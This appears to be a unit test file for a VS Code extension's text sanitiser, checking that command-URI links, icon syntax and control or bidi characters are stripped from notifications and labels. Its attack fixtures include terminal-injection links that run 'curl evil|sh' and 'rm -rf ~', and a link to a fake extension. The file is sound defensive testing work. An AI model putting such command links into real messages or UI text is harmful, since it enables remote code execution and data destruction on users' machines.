import assert from 'node:assert/strict';
import { plainLabel, plainLines, plainText } from '../../../src/core/plainText';

/** What VS Code would render as markup in a notification, status bar or quick pick must not survive. */
describe('core/plainText', () => {
  const attacks = [
    '[Open the docs](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
    'Build failed [x]( command:workbench.action.terminal.sendSequence?{"text":"rm -rf ~\\n"} )',
    '[click](vscode:extension/evil.publisher)',
    '[a]\n(command:x)',
    '<command:workbench.action.terminal.sendSequence>',
    'COMMAND:workbench.action.openSettings',
    '$(alert) $(loading~spin) fake icons',
  ];

  it('leaves no link brackets, no command or vscode scheme and no icon syntax', () => {
    for (const attack of attacks) {
      const out = plainText(attack);
      assert.doesNotMatch(out, /[[\]]/, out);
      assert.doesNotMatch(out, /\b(command|vscode):/i, out);
      assert.doesNotMatch(out, /\$\(/, out);
    }
    assert.equal(plainText('[WIP] fix (see #12)'), '(WIP) fix (see #12)');
  });

  it('makes one line without control, bidirectional-override or zero-width characters', () => {
    const out = plainText('line1\nline2\r\n\tx\u0000y\u001b[31mred\u202e evil \u2066\u200b\ufeffz\u2028end');
    assert.equal(out, 'line1 line2 x y (31mred evil z end');
  });

  it('cuts long text with an ellipsis, and keeps one leading icon of ours in labels', () => {
    assert.equal(plainText('x'.repeat(20), 10), `${'x'.repeat(9)}…`);
    assert.equal(plainLabel('$(tag) $(alert) v1 [x](command:y)'), '$(tag) $ (alert) v1 (x)(command :y)');
    assert.equal(plainLabel('$(sync~spin) CI'), '$(sync~spin) CI');
    assert.equal(plainLines('a [b](command:c)\nsecond $(x)'), 'a (b)(command :c)\nsecond $ (x)');
  });
});
